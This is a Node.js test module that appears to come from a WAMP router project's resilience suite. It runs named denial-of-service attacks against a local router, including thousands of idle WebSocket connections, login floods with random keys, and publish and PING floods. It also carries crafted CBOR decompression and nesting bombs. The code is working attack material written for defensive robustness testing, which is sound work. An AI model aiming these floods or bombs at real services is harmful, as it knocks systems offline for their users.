// One attack on a router, in a process of its own that runs from "go" to "stop": node attacks.mjs NAME URL
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { webSocket, webSocketFrame } from '../fuzz/wire.mjs';

// An attacker has machines of his own; here he must not take the processor from whom he attacks.
setPriority(19);

const [name, url] = process.argv.slice(2);
const port = Number(new URL(url).port);
const HELLO = [1, 'realm1', { roles: { publisher: {}, caller: {} } }];
const text = (message) => Buffer.from(JSON.stringify(message));
let running = false;
/** Connections that this attack holds, to be dropped when it stops. */
const held = new Set();

/** A session that has joined; undefined when the router would not. */
async function join(format = 'json', hello = text(HELLO)) {
  const session = await webSocket(port, format);
  if (!session) return undefined;
  held.add(session.wire);
  session.wire.write(session.frame(hello));
  await session.receive();
  return session;
}

function drop(session) {
  held.delete(session?.wire);
  session?.wire.destroy();
}

/** Writes as fast as the router reads, until the router has a word to say or hangs up. */
async function pour({ wire }, bytes) {
  while (running && !wire.closed && wire.received.length === 0) {
    const taken = wire.socket.write(bytes);
    await new Promise((resolve) => {
      wire.until(() => (wire.received.length > 0 ? true : undefined)).then(resolve);
      if (taken) setImmediate(resolve);
      else wire.socket.once('drain', resolve);
    });
  }
}

/** So many loops of one step side by side, for as long as the attack runs. */
async function loops(count, step) {
  await Promise.all(
    Array.from({ length: count }, async () => {
      while (running) {
        await step();
        // A router that refuses at once is not to be asked again at once: the attacker would only busy himself.
        await new Promise((resolve) => setTimeout(resolve, 1));
      }
    }),
  );
}

const attacks = {
  /** Five thousand connections that never say HELLO; each that is dropped comes back. */
  silent: async (ready) => {
    let open = 0;
    const dial = () => {
      const socket = connect(port, '127.0.0.1');
      const wire = { destroy: () => socket.destroy() };
      held.add(wire);
      socket.once('connect', () => {
        const key = randomBytes(16).toString('base64');
        socket.write(
          `GET /ws HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
            `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${key}\r\nSec-WebSocket-Protocol: wamp.2.json\r\n\r\n`,
        );
        if (++open === 5_000) ready();
      });
      socket.on('error', () => {});
      socket.on('data', () => {});
      socket.on('close', () => {
        held.delete(wire);
        if (running) setTimeout(dial, 100);
      });
    };
    for (let count = 0; count < 5_000; count++) {
      dial();
      if (count % 50 === 49) await new Promise((resolve) => setTimeout(resolve, 1));
    }
  },

  /** Logins with a key that nobody has, sixty-four at a time. */
  logins: (ready) => {
    ready();
    return loops(64, async () => {
      const pubkey = randomBytes(32).toString('hex');
      const details = { roles: { caller: {} }, authmethods: ['cryptosign'], authid: 'eve', authextra: { pubkey } };
      const session = await join('json', text([1, 'realm1', details]));
      session?.wire.write(session.frame(text([5, randomBytes(96).toString('hex'), {}])));
      await session?.receive();
      drop(session);
    });
  },

  /** Four publishers that write as fast as the router reads. */
  publishers: (ready) => {
    const frame = webSocketFrame(text([16, 1, {}, 'flood.topic', ['x'.repeat(40)]]), {});
    const bytes = Buffer.concat(Array.from({ length: 200 }, () => frame));
    ready();
    return loops(4, async () => {
      const session = await join();
      if (session) await pour(session, bytes);
      drop(session);
    });
  },

  /** Four sessions that send PINGs as fast as the router reads, and read no answers. */
  pings: (ready) => {
    const frame = webSocketFrame(Buffer.alloc(0), { opcode: 9 });
    const bytes = Buffer.concat(Array.from({ length: 1_000 }, () => frame));
    ready();
    return loops(4, async () => {
      const session = await join();
      session?.wire.socket.pause();
      if (session) await pour(session, bytes);
      drop(session);
    });
  },

  /** CBOR that is small on the wire and would be vast in memory, or takes long to read. */
  laughs: (ready) => {
    const head = Buffer.concat([Buffer.of(0x85, 0x10, 0x01, 0xa0), Buffer.of(0x61, 0x78)]);
    const bomb = (payload) => Buffer.concat([head, payload]);
    const bombs = [
      // Ten lists of ten lists of ten lists … by shared references (tags 28 and 29), a billion elements.
      bomb(Buffer.concat([...Array.from({ length: 9 }, () => Buffer.of(0xd8, 0x1c, 0x8a)), Buffer.alloc(90, 0xd8)])),
      // A list of four thousand million elements, and text as long, of which nothing comes.
      bomb(Buffer.of(0x9a, 0xff, 0xff, 0xff, 0xff)),
      bomb(Buffer.of(0x81, 0x7a, 0xff, 0xff, 0xff, 0xff)),
      // Lists in lists, a hundred thousand deep.
      bomb(Buffer.alloc(100_000, 0x81)),
      // A million empty lists: well formed, a byte each. And seven million, which is too long.
      bomb(Buffer.concat([Buffer.of(0x9a, 0, 0x0f, 0x42, 0x40), Buffer.alloc(1_000_000, 0x80)])),
      bomb(Buffer.concat([Buffer.of(0x9a, 0, 0x6a, 0xcf, 0xc0), Buffer.alloc(7_000_000, 0x80)])),
    ].map((payload) => webSocketFrame(payload, { opcode: 2 }));
    ready();
    let next = 0;
    return loops(4, async () => {
      const session = await join(
        'cbor',
        Buffer.from('8301667265616c6d31a165726f6c6573a1697075626c6973686572a0', 'hex'),
      );
      if (session) await pour(session, bombs[next++ % bombs.length]);
      drop(session);
    });
  },
};

process.on('message', async (word) => {
  if (word === 'go') {
    running = true;
    await attacks[name](() => process.send?.('ready'));
    return;
  }
  running = false;
  for (const wire of held) wire.destroy();
  held.clear();
  process.send?.('stopped');
});
process.on('disconnect', () => process.exit());
process.send?.('up');
